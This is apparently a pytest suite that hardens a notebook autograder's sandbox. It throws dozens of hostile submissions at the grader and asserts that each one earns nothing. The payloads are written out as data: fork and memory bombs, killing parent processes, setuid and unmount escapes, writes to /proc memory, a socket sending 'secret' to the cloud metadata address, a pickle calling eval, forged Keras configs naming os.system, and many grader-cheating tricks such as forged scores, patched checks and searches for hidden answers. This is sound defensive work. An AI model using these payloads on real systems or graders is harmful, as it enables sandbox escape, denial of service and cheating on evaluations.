"""Attacks on the grader: none earns a point, none costs another exercise or submission one.

Each payload is the cell of one exercise, or spoils the whole file. The other exercises of the
notebook hold honest answers, and must keep their points; so must an honest submission before and
after all of them.
"""

import base64
import contextlib
import copy
import hashlib
import io
import json
import resource
import socket
import threading

import numpy as np
import pytest
from answers import solution
from graded import added, cell_of, code, graded, judge, needs_sandbox, outcomes, place_of, solved

from grading import rebuild
from grading.session import SandboxAttempt
from helpers.checks.attempt import Borrowed, Stopped, Unreadable

pytestmark = needs_sandbox
STEM, OTHER = "03_padding_modes", "05_channels_and_bias"
SIGNATURE = "def same_padding(size, kernel_size, stride=1, dilation=1):\n"
FORGE = """
import json, os, struct
def forge(message, raw=False):
    frame = message if raw else json.dumps(message).encode()
    frame = frame if raw else struct.pack(">I", len(frame)) + frame
    for number in range(3, 256):
        try:
            os.write(number, frame)
        except OSError:
            pass
"""


def body(lines, above=""):
    """The cell of same_padding with these lines as the function's body."""
    inner = "\n".join("    " + line for line in lines.strip("\n").split("\n"))
    return f"{above}\n{SIGNATURE}{inner}\n"


BORROWING = {
    "calls the helper": body("return padding.same_padding(size, kernel_size, stride, dilation)"),
    "calls it and hides the error": body("""
try:
    return padding.same_padding(size, kernel_size, stride, dilation)
except BaseException:
    return 0, 0
"""),
    "calls the other forbidden helper": body("""
found = padding.resolve_padding("same", (size, size), (kernel_size,) * 2, stride, dilation)
return tuple(found[0])
"""),
    "stops the recording of calls": body("""
import sys
sys.setprofile(None)
return padding.same_padding(size, kernel_size, stride, dilation)
"""),
    "calls from a thread": body("""
import threading
found = []
thread = threading.Thread(target=lambda: found.append(
    padding.same_padding(size, kernel_size, stride, dilation)))
thread.start(); thread.join()
return found[0]
"""),
    "calls from a forked process": body("""
import multiprocessing
with multiprocessing.get_context("fork").Pool(1) as pool:
    return pool.apply(padding.same_padding, (size, kernel_size, stride, dilation))
"""),
    "starts a fresh Python": body("""
import subprocess, sys
code = f"import sys; sys.path[:0] = ['/course', {padding.__file__[:-19]!r}]\\n"
code += "from helpers.padding import same_padding\\n"
code += f"print(*same_padding({size}, {kernel_size}, {stride}, {dilation}))"
ended = subprocess.run([sys.executable, "-c", code], capture_output=True)
return tuple(map(int, ended.stdout.split()))
"""),
    "starts a fresh Python past the library": body("""
import ctypes, os, sys
readable, writable = os.pipe()
if os.fork() == 0:
    os.dup2(writable, 1)
    os.execv(sys.executable, [sys.executable, "-c", "print(1, 1)"])
os.close(writable)
return tuple(map(int, os.read(readable, 100).split()))
"""),
    "reloads the helper": body("""
import importlib
return importlib.reload(padding).same_padding(size, kernel_size, stride, dilation)
"""),
    "runs the helper's file": body("""
names = {}
exec(open(padding.__file__).read(), names)
return names["same_padding"](size, kernel_size, stride, dilation)
"""),
    "runs the helper's source": body("""
import inspect
exec(inspect.getsource(padding), globals())
return same_padding(size, kernel_size, stride, dilation)
"""),
    "imports under another name": body("""
import importlib.util
spec = importlib.util.find_spec("helpers.padding")
fresh = importlib.util.module_from_spec(spec)
spec.loader.exec_module(fresh)
return fresh.same_padding(size, kernel_size, stride, dilation)
"""),
    "searches memory for the code": body("""
import gc, types
for item in gc.get_objects():
    if isinstance(item, types.FunctionType) and item.__name__ == "same_padding":
        if item is not same_padding and "helpers" in (item.__module__ or ""):
            return item(size, kernel_size, stride, dilation)
for item in gc.get_objects():
    for constant in getattr(getattr(item, "__code__", None), "co_consts", None) or ():
        if isinstance(constant, types.CodeType) and constant.co_name == "same_padding":
            return types.FunctionType(constant, vars(padding))(size, kernel_size, stride, dilation)
"""),
    "takes the helper before its own": "kept = padding.same_padding\n"
    + body("return kept(size, kernel_size, stride, dilation)"),
    "fills a table beforehand": "table = {(s, k, t, d): padding.same_padding(s, k, t, d)"
    " for s in range(1, 60) for k in range(1, 9) for t in range(1, 7) for d in range(1, 5)}\n"
    + body("return table[size, kernel_size, stride, dilation]"),
    "asks the check for its answer": body("""
return checks.find("same_padding").expected(size, kernel_size, stride, dilation)
"""),
    "asks the check's wrong models": body("""
from helpers import checks
return checks.padding.same_padding.answer_with(frozenset(), size, kernel_size, stride, dilation)
"""),
    "imports the check's module": body("""
import importlib
module = importlib.import_module("helpers.checks.padding")
return module.same_padding.expected(size, kernel_size, stride, dilation)
"""),
    "searches the disk for the answers": body("""
import os, re
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr")) or "site-packages" in folder:
        continue
    for name in files:
        if name.endswith((".py", ".pyc", ".ipynb", ".db")):
            with open(os.path.join(folder, name), errors="ignore") as file:
                text = file.read()
            if "def same_padding" in text or "_same_padding_with" in text:
                names = {}
                exec(text, names)
                return names["same_padding"](size, kernel_size, stride, dilation)
"""),
    "searches other processes": body("""
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline", "mem", "maps"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                if b"secret" in file.read(1 << 20):
                    return 0, 0
        except OSError:
            pass
"""),
    "reads the caller's frames": body("""
import sys
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        for name in ("expected", "answer_with"):
            if callable(getattr(type(value), name, None)):
                return getattr(value, name)(size, kernel_size, stride, dilation)
    frame = frame.f_back
"""),
}  # fmt: skip

FORGING = {
    "sends an answer of its own": FORGE
    + body('forge({"value": {"tuple": [77, 77]}})\nreturn 0, 0'),
    "sends answers in advance": FORGE
    + "\nfor _ in range(99):\n    forge({'value': {'tuple': [77, 77]}})\n" + body("return 0, 0"),
    "says that it was right": FORGE + body('forge({"outcome": "right", "score": 5.0})\nreturn 5.0'),
    "claims another outcome": FORGE + body('forge({"borrowed": "os.system"})\nreturn 0, 0'),
    "claims an error without a kind": FORGE + body('forge({"stopped": [[], "", ""]})'),
    "claims an error of odd kinds": FORGE + body(
        'forge({"stopped": [[1, None, {}, "x" * 10000, "<b>"], "\\ud800", "\\x00\\x1b[2J"]})'),
    "announces 4 GiB": FORGE + body('forge(b"\\xff\\xff\\xff\\xff", raw=True)'),
    "sends noise": FORGE + body('forge(os.urandom(100_000), raw=True)'),
    "sends what is no JSON": FORGE + body('forge(b"\\x00\\x00\\x00\\x02{]", raw=True)'),
    "sends deep JSON": FORGE + body(
        'deep = b"[" * 500_000\nforge(struct.pack(">I", len(deep)) + deep, raw=True)'),
    "sends half of an answer": FORGE + body(
        'forge(b"\\x00\\x00\\xff\\xff{", raw=True)\nimport time\ntime.sleep(60)'),
    "closes everything": body("import os\nos.closerange(0, 256)\nreturn 0, 0"),
    "turns the encoding round": body("""
import sys
for module in list(sys.modules.values()):
    if hasattr(module, "encode") and hasattr(module, "decode") and hasattr(module, "np"):
        module.encode = lambda value: {"array": "gASVIwAAAAAAAAA="}
import json
json.dumps = lambda *_, **__: '{"value": NaN}'
return 0, 0
"""),
    "patches the checks' machinery": body("""
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(("helpers", "grading")):
        for key in list(vars(module)):
            if key in ("same_value", "same_form", "judge", "compare", "expected"):
                setattr(module, key, lambda *_, **__: True)
return 0, 0
"""),
    "patches the built-ins": body("""
import builtins
builtins.isinstance = lambda *_: True
builtins.all = lambda *_: True
builtins.sum = lambda *_: 5.0
np.allclose = lambda *_, **__: True
return 0, 0
"""),
    "is equal to everything": body("""
class Equal(tuple):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = tuple.__hash__
return Equal((0, 0))
"""),
    "counts that lie": body("""
class Count(int):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __hash__ = int.__hash__
return Count(0), Count(0)
"""),
    "not a number": body("return float('nan'), float('nan')"),
    "infinity": body("return float('inf'), float('inf')"),
    "a pickle for an array": body("""
class Trick:
    def __reduce__(self): return eval, ("open('/scratch/x', 'w')",)
return np.array([Trick(), Trick()], dtype=object)
"""),
    "a tensor that is none": body("""
class Tensor:
    def numpy(self): return np.array([open], dtype=object)
return Tensor()
"""),
    "an array with a long name": body("""
return np.zeros(2, dtype=[("x" * 60000, "i4"), ("y", "i4")])
"""),
    "an array of 100 GB that is 1 byte": body("return np.broadcast_to(np.int8(0), (10**11,))"),
    "a text of 1 GB": body("return 'x' * (1 << 30)"),
    "a number of a million digits": body("return 10 ** 1_000_000, 0"),
    "a list in itself": body("found = []\nfound.append(found)\nreturn found"),
    "a list nested 100 000 deep": body(
        "found = ()\nfor _ in range(100_000):\n    found = (found,)\nreturn found"),
    "ten million numbers": body("return tuple(range(10_000_000))"),
    "a generator without end": body("import itertools\nreturn itertools.repeat(0)"),
    "half a surrogate": body("return '\\ud800'"),
    "an error whose text fails": body("""
class Odd(Exception):
    def __str__(self): raise ValueError
raise Odd
"""),
    "an error with a page in it": body(
        "raise ValueError('<script>alert(1)</script>\\x00\\x1b[2J' + 'x' * 1_000_000)"),
    "an error of a class without end": body(
        "raise type('<script>' + 'x' * 1_000_000, (Exception,), {})('no')"),
    "prints a score": body("print(5.0)\nimport sys\nsys.displayhook(5.0)\nreturn 0, 0"),
}  # fmt: skip

ENDING = {
    "exits": body("raise SystemExit(0)"),
    "interrupts": body("raise KeyboardInterrupt"),
    "ends at once": body("import os\nos._exit(0)"),
    "kills itself": body("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    "aborts": body("import os\nos.abort()"),
    "reads from nowhere": body("import ctypes\nctypes.string_at(0)"),
    "kills its parents": body("""
import os, signal
for pid in (os.getppid(), 1, 2, 3, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.killpg(0, signal.SIGKILL)
"""),
    "ends in the cell": "import os\nos._exit(1)\n" + body("return 0, 0"),
    "recurses in C": body("sys_ = __import__('sys')\nsys_.setrecursionlimit(10**9)\n"
                          "def f(): return f()\nreturn f()"),
    "recurses": body("return same_padding(size, kernel_size)"),
    "threads without end": body("""
import threading, time
try:
    while True:
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
except RuntimeError:
    return 0, 0
"""),
    "takes all memory": body("kept = []\nwhile True:\n    kept.append(bytearray(1 << 26))"),
    "takes all memory in TensorFlow": body(
        "kept = []\nwhile True:\n    kept.append(tf.ones((1 << 24,)) + 1.0)"),
    "takes all memory in many processes": body("""
import os, time
for _ in range(12):
    if os.fork() == 0:
        kept = bytearray(os.urandom(1 << 20)) * 900
        time.sleep(100)
time.sleep(3)
return 0, 0
"""),
    "forks without end": body("import os\nwhile True:\n    os.fork()"),
    "fills the disk": body("""
import os
for folder in (".", "/tmp", "/dev/shm", "/scratch", "/var/tmp"):
    try:
        for number in range(64):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * (60 << 20))
    except OSError:
        pass
return 0, 0
"""),
    "makes files without end": body("""
try:
    for number in range(10**7):
        open(f"file{number}", "w").close()
except OSError:
    return 0, 0
"""),
    "prints 300 MB": body("for _ in range(300):\n    print('x' * (1 << 20))\nreturn 0, 0"),
    "a parser's bomb of brackets": "x = " + "(" * 100_000 + "\n" + body("return 0, 0"),
    "a parser's bomb of signs": "x = " + "-" * 200_000 + "1\n" + body("return 0, 0"),
    "a sum of 100 000 terms": "x = " + "+".join(["1"] * 100_000) + "\n" + body("return 0, 0"),
    "a null byte": "x = '\x00'\n" + body("return 0, 0"),
    "half a surrogate in the cell": "x = '\ud800'\n" + body("return 0, 0"),
}  # fmt: skip
HANGING = {
    "loops": body("while True:\n    pass"),
    "loops in the cell": "while True:\n    pass\n" + body("return 0, 0"),
    "loops through every exception": body("""
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""),
    "ignores the signals that would end it": body("""
import signal
for number in (signal.SIGPROF, signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass
"""),
    "sleeps": body("import time\ntime.sleep(10**6)"),
    "counts in C": body("return sum(range(10**13)), 0"),
    "a regular expression": body("import re\nre.match('(a+)+$', 'a' * 60 + 'b')\nreturn 0, 0"),
    "leaves a thread that holds everything": body("""
import threading
threading.Thread(target=lambda: sum(range(10**13)), daemon=True).start()
return sum(range(10**13)), 0
"""),
}  # fmt: skip
REACHING = {
    "mounts": body("""
import ctypes
libc = ctypes.CDLL(None)
found = [libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
         libc.ptrace(16, 1, 0, 0), libc.umount2(b"/course/helpers", 2), libc.chroot(b"/")]
if any(value == 0 for value in found):
    return padding.same_padding(size, kernel_size, stride, dilation)
raise PermissionError
"""),
    "unmounts what hides the helpers": body("""
import ctypes, os
ctypes.CDLL(None).umount2(b"/course/helpers", 2)
names = {}
exec(open("/course/helpers/padding.py").read(), names)
return names["same_padding"](size, kernel_size, stride, dilation)
"""),
    "writes to every folder": body("""
import os
for folder in ("/", "/usr", "/etc", "/course", "/course/data", "/root", "/home", "/dev", "/tmp"):
    try:
        with open(os.path.join(folder, "left_behind"), "w") as file:
            file.write("x")
    except OSError:
        pass
return 0, 0
"""),
    "leaves a process behind": body("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(100)
return 0, 0
"""),
    "calls home": body("""
import socket
for address in (("127.0.0.1", PORT), ("169.254.169.254", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=1).sendall(b"secret")
    except OSError:
        pass
return 0, 0
"""),
    "becomes another user": body("""
import os
for change in (lambda: os.setuid(0), lambda: os.setgroups([]), lambda: os.chmod("/scratch", 0o4777),
               lambda: os.nice(-20), lambda: os.mknod("/scratch/disk", 0o60666, os.makedev(8, 0))):
    try:
        change()
    except OSError:
        pass
return 0, 0
"""),
    "writes into the sandbox's own memory": body("""
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        try:
            with open(f"/proc/{pid}/mem", "r+b") as memory:
                memory.seek(1 << 22)
                memory.write(b"x" * 4096)
        except (OSError, ValueError):
            pass
return 0, 0
"""),
}  # fmt: skip
FAST = BORROWING | FORGING | ENDING | REACHING
ALL = FAST | HANGING


@pytest.fixture(scope="module", autouse=True)
def honest_before_and_after(tmp_path_factory):
    """An honest submission has full marks before all attacks and after them."""
    folder = tmp_path_factory.mktemp("honest")

    def is_full():
        result = graded(solved(STEM), STEM, folder)
        return result.score == result.points == 10

    assert is_full()
    kept = hashlib.sha256((folder / f"{STEM}.ipynb").read_bytes()).digest()
    yield
    assert hashlib.sha256((folder / f"{STEM}.ipynb").read_bytes()).digest() == kept
    assert is_full()


@pytest.fixture(scope="module")
def listener():
    """A port of this machine, and the connections that came to it."""
    server = socket.create_server(("127.0.0.1", 0))
    came = []

    def listen():
        with contextlib.suppress(OSError):
            while True:
                came.append(server.accept())

    threading.Thread(target=listen, daemon=True).start()
    yield server.getsockname()[1], came
    server.close()


def attacked(source, folder):
    """The result of a notebook with `source` as its first exercise and the others honest.

    To be quick the notebook has two exercises: the attacked one and an honest one below it.
    """
    made = solved(STEM, same_padding=source)
    made["cells"] = [cell_of(made, "same_padding"), cell_of(made, "symmetric_conv")]
    result = graded(made, STEM, folder)
    scores = outcomes(result)
    assert scores["symmetric_conv"] == ("right", 3), scores
    assert all(len(line) < 5010 for item in result.exercises for line in item.feedback)
    json.loads(result.to_json().encode())
    return result.exercises[0]


@pytest.mark.parametrize("payload", FAST)
def test_an_attack_earns_nothing_and_costs_only_its_own_cell(payload, tmp_path, listener):
    port, came = listener
    made = attacked(FAST[payload].replace("PORT", str(port)), tmp_path)
    assert made.score <= 0.5, made  # the form alone, for those that return two numbers
    assert made.outcome in ("wrong", "error", "borrowed", "crashed")
    assert not came


@pytest.mark.slow
@pytest.mark.parametrize("payload", HANGING)
def test_an_answer_that_hangs_is_given_up(payload, tmp_path):
    made = attacked(HANGING[payload], tmp_path)
    assert made.score == 0 and made.outcome in ("crashed", "error")
    assert any("within" in line for line in made.feedback)
    assert made.seconds < 9  # the tests' wait for an answer, and room


def test_a_loop_without_end_is_told_by_its_line(tmp_path):
    made = attacked(body("kept = 1\nwhile size:\n    kept += 1\nreturn 0, kept"), tmp_path)
    assert (made.score, made.outcome) == (0, "error")
    said = "\n".join(made.feedback)
    assert "stopped at\n    while size:" in said or "stopped at\n    kept += 1" in said
    assert "TimeoutError: not done within 2 s of computing" in said


def test_there_are_many_attacks():
    assert len(ALL) >= 60


def test_nothing_is_left_behind_in_the_sandbox(tmp_path):
    """What one learner's process writes, another does not find."""
    look = body("""
import os
found = [folder for folder in ("/scratch", "/dev/shm", "/tmp", "/dev", "/course", ".")
         if os.path.exists(folder + "/left_behind")]
raise RuntimeError(f"found {found}, processes {len(os.listdir('/proc'))}")
""")
    attacked(REACHING["writes to every folder"].replace('"/tmp"', '"/tmp", "/scratch"'), tmp_path)
    made = attacked(look, tmp_path)
    assert any("found []" in line for line in made.feedback), made.feedback


def test_the_names_of_secrets_are_not_in_the_learners_process(tmp_path):
    look = body("""
import gc, os
kept = "the tests'" + " secret"
found = any(kept in str(item) for item in os.environ.values())
raise RuntimeError(f"found {found}")
""")
    made = attacked(look, tmp_path)
    assert any("found False" in line for line in made.feedback), made.feedback


# --- Files ----------------------------------------------------------------------------------------


def wrong(**sources):
    return solved(STEM, same_padding=body("return 0, 0"), **sources)


def marked(**marks):
    """An attack by metadata: every mark of nbgrader's changed."""
    made = wrong()
    for cell in made["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= marks
    return made


def with_forged_outputs():
    made = wrong()
    for cell in made["cells"]:
        if cell["cell_type"] == "code":
            output = {
                "output_type": "execute_result",
                "data": {"text/plain": "5.0"},
                "metadata": {},
            }
            cell["outputs"], cell["execution_count"] = [output], 1
    return made


def with_an_edited_check():
    made = wrong()
    cell_of(made, "same_padding-check")["source"] = "5.0"
    return made


def with_a_kernel_of_its_own():
    made = wrong()
    made["metadata"] = {"kernelspec": {"name": "evil", "display_name": "x" * 10**6}}
    return made


def with_odd_metadata():
    made = wrong()
    for number, cell in enumerate(made["cells"]):
        odd = [None, 3, [], "x", {"nbgrader": 3}, {"nbgrader": {"grade_id": ["x"]}}]
        cell["metadata"] = odd[number % len(odd)]
        cell["id"] = {"not": "a name"}
    return made


def with_the_same_grade_id_everywhere():
    return marked(grade_id="same_padding")


def with_hooks():
    return added(wrong(), """
shell = get_ipython()
shell.events.register("post_run_cell", lambda *_: None)
shell.ast_transformers.append(None)
shell.display_formatter.formatters["text/plain"].for_type(object, lambda *_: "5.0")
import sys
sys.displayhook(5.0)
""", "same_padding")  # fmt: skip


def with_patched_checks():
    return added(wrong(), """
from helpers import checks
checks.padding.same_padding = lambda function: 5.0
import helpers.checks.attempt as attempts
attempts.call_quietly = lambda *_, **__: (77, 77)
""", "same_padding")  # fmt: skip


FILES = {
    "points": lambda: marked(points=1000),
    "points that are no number": lambda: marked(points="NaN"),
    "flags turned round": lambda: marked(grade=True, solution=True, locked=False, task=True),
    "a schema of the future": lambda: marked(schema_version=99),
    "one grade id everywhere": with_the_same_grade_id_everywhere,
    "odd metadata": with_odd_metadata,
    "outputs that say 5.0": with_forged_outputs,
    "a check of its own": with_an_edited_check,
    "a kernel of its own": with_a_kernel_of_its_own,
    "hooks of the shell": with_hooks,
    "patched checks": with_patched_checks,
}


@pytest.mark.parametrize("attack", FILES)
def test_a_file_cannot_say_what_it_is_worth(attack, tmp_path):
    result = graded(FILES[attack](), STEM, tmp_path)
    assert result.exercises[0].score <= 0.5
    assert result.points == 10
    if attack not in ("one grade id everywhere", "patched checks"):  # these spoil their own
        assert result.score - result.exercises[0].score == 5


def test_files_beside_the_notebook_are_never_read(tmp_path):
    (tmp_path / "numpy.py").write_text("raise SystemExit")
    (tmp_path / "sitecustomize.py").write_text("raise SystemExit")
    assert graded(solved(STEM), STEM, tmp_path).score == 10


@pytest.mark.parametrize("source", ["import os\nos._exit(0)", "while True:\n    pass"])
def test_a_cell_around_an_exercise_costs_nothing_but_itself(source, tmp_path):
    result = graded(added(solved(STEM), source, "symmetric_conv"), STEM, tmp_path)
    assert result.score == 10
    assert len(result.notes) == 1 and "skipped" in result.notes[0]


def test_a_hundred_deadly_cells_do_not_hold_up_the_rest(tmp_path):
    made = solved(STEM)
    for number in range(100):
        made = added(made, f"import os\nos._exit({number})", "same_padding")
    assert graded(made, STEM, tmp_path).score == 10


CONVOLUTION = """
made = tf.function(lambda x, k, s: tf.nn.conv2d(x, k, s, "VALID"))

def conv_layer(images, kernel, bias, stride=1, padding=0):
    images = np.pad(images, [(0, 0), (padding, padding), (padding, padding), (0, 0)])
    WAY
    return maps.numpy() + bias
"""
AGAIN = "maps = again.conv2d(images, kernel, [1, stride, stride, 1], 'VALID')"
CONVOLVING = {
    "by its name": "maps = tf.nn.conv2d(images, kernel, stride, 'VALID')",
    "in a graph made beforehand": "maps = made(images, kernel, stride)",
    "by a module loaded again": "import importlib; from tensorflow.python.ops import gen_nn_ops; "
    "again = importlib.reload(gen_nn_ops); " + AGAIN,
    "by its file": "import types; from tensorflow.python.ops import gen_nn_ops; "
    "again = types.ModuleType('again'); "
    "exec(open(gen_nn_ops.__file__).read(), vars(again)); " + AGAIN,
    "by its compiled file": "import importlib.util as u, types, marshal; "
    "from tensorflow.python.ops import gen_nn_ops; again = types.ModuleType('again'); "
    "raw = open(u.cache_from_source(gen_nn_ops.__file__), 'rb').read(); "
    "exec(marshal.loads(raw[16:]), vars(again)); " + AGAIN,
    "by the layer": "layer = keras.layers.Conv2D(kernel.shape[-1], kernel.shape[:2], stride, "
    "use_bias=False); layer.build(images.shape); layer.set_weights([kernel]); maps = layer(images)",
}


@pytest.mark.parametrize("way", CONVOLVING)
def test_a_forbidden_operation_of_tensorflow_is_out_of_reach(way, tmp_path):
    made = solved(OTHER, conv_layer=CONVOLUTION.replace("WAY", CONVOLVING[way]))
    made["cells"] = [cell_of(made, "conv_layer"), cell_of(made, "bias_add")]
    scores = outcomes(graded(made, OTHER, tmp_path))
    assert scores["conv_layer"] in (("borrowed", 0), ("error", 0))
    assert scores["bias_add"] == ("right", 2)


# --- Models ---------------------------------------------------------------------------------------

BUILDER = "def separable_block(inputs, filters, kernel_size=3):\n"


def builder(lines, above=""):
    """The cell of separable_block with these lines as the builder's body."""
    return above + "\n" + BUILDER + "\n".join(f"    {line}" for line in lines.split("\n")) + "\n"


MODELS = {
    "a Lambda": builder("return keras.layers.Lambda(lambda x: x)(inputs)"),
    "a layer of its own": builder(
        "return type('Mine', (keras.layers.Layer,), {'call': lambda self, x: x})()(inputs)"),
    "a registered layer of its own": builder("return Conv2D()(inputs)", """
@keras.saving.register_keras_serializable(package="keras.layers", name="Conv2D")
class Conv2D(keras.layers.Layer):
    def call(self, x): return x
"""),
    "an activation of its own": builder(
        "return keras.layers.Conv2D(4, 3, activation=lambda x: x)(inputs)"),
    "a huge layer": builder("return keras.layers.Conv2D(10**7, 3)(inputs)"),
    "a huge picture": builder("return keras.layers.UpSampling2D(10**5)(inputs)"),
    "a picture that is too large to run": builder("return keras.layers.UpSampling2D(3000)(inputs)"),
    "a thousand layers": builder(
        "for _ in range(1000):\n    inputs = keras.layers.ReLU()(inputs)\nreturn inputs"),
    "the forbidden layer": builder("return keras.layers.SeparableConv2D(filters, kernel_size,"
                                   " padding='same', depthwise_initializer='he_normal')(inputs)"),
    "the forbidden layer, made past its name": builder(
        "Layer = type('L', (keras.layers.SeparableConv2D,), {})\n"
        "return Layer(filters, kernel_size, padding='same')(inputs)"),
}  # fmt: skip


@pytest.mark.parametrize("payload", MODELS)
def test_a_hostile_model_earns_nothing(payload, tmp_path):
    made = solved(OTHER, separable_block=MODELS[payload])
    made["cells"] = [cell_of(made, "separable_block"), cell_of(made, "bias_add")]
    scores = outcomes(graded(made, OTHER, tmp_path))
    assert scores["separable_block"][0] != "right"
    assert scores["bias_add"] == ("right", 2)


CONFIG = {"module": "keras", "class_name": "Sequential", "registered_name": None}
FORGED = {
    "a function of the system": {"module": "os", "class_name": "system", "config": "true"},
    "a function of Keras": {"module": "keras.utils", "class_name": "get_file", "config": {}},
    "a switch of Keras": {"module": "keras.config", "class_name": "enable_unsafe_deserialization",
                          "config": {}},
    "a Lambda": {"module": "keras.layers", "class_name": "Lambda", "config": {}},
    "a marshalled lambda": {"class_name": "__lambda__", "config": {"value": "4wEAAAA="}},
    "a saved model": {"module": "keras.layers", "class_name": "TFSMLayer",
                      "config": {"filepath": "/etc"}},
    "a vocabulary from a file": {"module": "keras.layers", "class_name": "StringLookup",
                                 "config": {"vocabulary": "/etc/passwd"}},
    "an operation that is none": {"module": "keras.src.ops.numpy", "class_name": "np",
                                  "config": {}},
    "an operation that calls back": {"module": "keras.src.ops.core", "class_name": "Map",
                                     "config": {}},
    "a module by a path": {"module": "keras.layers.../../os", "class_name": "Dense", "config": {}},
    "a name that is a list": {"module": "keras.layers", "class_name": ["Dense"], "config": {}},
    "a huge number": {"module": "keras.layers", "class_name": "Dense", "config": {"units": 10**9}},
    "deep": json.loads('{"a":' * 300 + "1" + "}" * 300),
    "wide": {"config": [[0] * 10] * 50_000},
}  # fmt: skip


class Replying:
    """A channel to a learner's process that answers what the test wants."""

    def __init__(self, answer):
        self.answer = answer

    def ask(self, request, _):
        return {"value": None} if request["do"] == "define" else self.answer


def answered(answer, forbidden=()):
    """What a check gets to see when a learner's process sends `answer`."""
    attempt = SandboxAttempt(Replying(answer), "def f():\n    return 1\n", "f", forbidden)
    return attempt.call()


@pytest.mark.parametrize("part", FORGED)
def test_a_forged_configuration_is_refused(part):
    config = CONFIG | {"config": {"name": "s", "layers": [FORGED[part]]}}
    with pytest.raises(Unreadable):
        answered({"value": {"model": config, "weights": []}})


def test_a_forged_model_of_a_forbidden_layer_is_borrowed():
    import keras

    from helpers.checks import models

    model = keras.Sequential([keras.Input((8, 8, 3)), keras.layers.SeparableConv2D(4, 3)])
    config, weights = models.describe(model)
    encoded = [{"array": _npy(array)} for array in weights]
    with pytest.raises(Borrowed, match="SeparableConv2D"):
        answered({"value": {"model": json.loads(json.dumps(config)), "weights": encoded}},
                 ("keras.layers.SeparableConv2D",))  # fmt: skip


GIANT = [
    ("Flatten", {}),
    ("Dense", {"units": 10**6}),
    ("Dense", {"units": 10**6}),
]  # weights of 4 TB in a text of 300 letters


@pytest.mark.parametrize("weights", [[], [np.zeros((784, 1), "float32")]])
def test_the_weights_of_a_forged_giant_are_never_made(weights):
    import keras
    from keras.src.backend.common import global_state

    layers = [{"module": "keras.layers", "class_name": "InputLayer",
               "config": {"batch_shape": [None, 28, 28, 1]}, "registered_name": None}]  # fmt: skip
    layers += [{"module": "keras.layers", "class_name": name, "config": settings,
                "registered_name": None} for name, settings in GIANT]  # fmt: skip
    config = CONFIG | {"config": {"name": "s", "layers": layers}}
    encoded = [{"array": _npy(array)} for array in weights]
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Unreadable, match=r"a model of 1e\+12 weights"):
        answered({"value": {"model": config, "weights": encoded}})
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000  # KiB
    assert not global_state.get_global_attribute("uninitialized_variables")
    keras.Sequential([keras.Input((2,)), keras.layers.Dense(1)])  # others are made as ever


def test_a_forged_model_of_many_layers_is_not_built():
    layer = {"module": "keras.layers", "class_name": "ReLU", "config": {}, "registered_name": None}
    config = CONFIG | {"config": {"name": "s", "layers": [layer] * 10_000}}
    with pytest.raises(Unreadable, match="more than 2,000 layers"):
        answered({"value": {"model": config, "weights": []}})


def _npy(array, **options):
    buffer = io.BytesIO()
    np.save(buffer, array, **options)
    return base64.b64encode(buffer.getvalue()).decode()


def _header(text):
    raw = b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode()
    return base64.b64encode(raw).decode()


@pytest.mark.parametrize(
    "value",
    [
        {"array": _npy(np.array([{}], object), allow_pickle=True)},
        {"array": _header("{'descr': '<f8', 'fortran_order': False, 'shape': (10**12,)}\n")},
        {"array": _header("{'descr': '<f8', 'fortran_order': False, 'shape': (-1,)}\n")},
        {"array": _header("__import__('os')._exit(1)\n")},
        {"array": base64.b64encode(b"PK\x03\x04" + b"\x00" * 100).decode()},
        {"array": base64.b64encode(b"\x80\x04\x95\x00").decode()},
        {"range": [1, 2, 0]},
        {"tuple": [{"tuple": [{"odd": 1}]}]},
        {"model": {}, "weights": 3},
        [1],
        "x" * 200_000,
    ],
    ids=range(11),
)
def test_a_forged_value_is_refused(value):
    with pytest.raises(Unreadable):
        answered({"value": value})


@pytest.mark.parametrize(
    "answer",
    [{}, {"value": None, "x": 1} | {"stopped": 3}, {"stopped": [1, 2, 3]}, {"borrowed": "os"},
     {"borrowed": 1}, {"unreadable": []}, {"score": 5}],
    ids=range(7),
)  # fmt: skip
def test_a_forged_answer_is_read_as_what_it_says_or_not_at_all(answer):
    with contextlib.suppress(Unreadable):
        assert answered(answer) is None


def test_an_error_of_odd_kinds_is_made_readable():
    with pytest.raises(Stopped) as stop:
        answered({"stopped": [[3, "<b>", "x" * 999], "\ud800\x00\x1b" + "y" * 9999, "z" * 9999]})
    assert stop.value.kinds == ("Exception",)
    assert len(stop.value.message) < 600 and len(stop.value.line) < 600
    stop.value.message.encode()
    assert "\x1b" not in stop.value.message


def test_the_source_of_a_learner_is_never_parsed_by_the_judge(tmp_path, monkeypatch):
    import ast

    def refuse(*_, **__):
        raise AssertionError("parsed")

    monkeypatch.setattr(ast, "parse", refuse)
    made = copy.deepcopy(solved(STEM, same_padding=ENDING["a parser's bomb of brackets"]))
    made["cells"].insert(place_of(made, "symmetric_conv"), code("((("))
    cells = rebuild.cells_in(json.dumps(made).encode())
    release = judge().release(STEM)
    works = rebuild.rebuild(release, cells)
    assert works["symmetric_conv"].source.strip() == solution("symmetric_conv").strip()
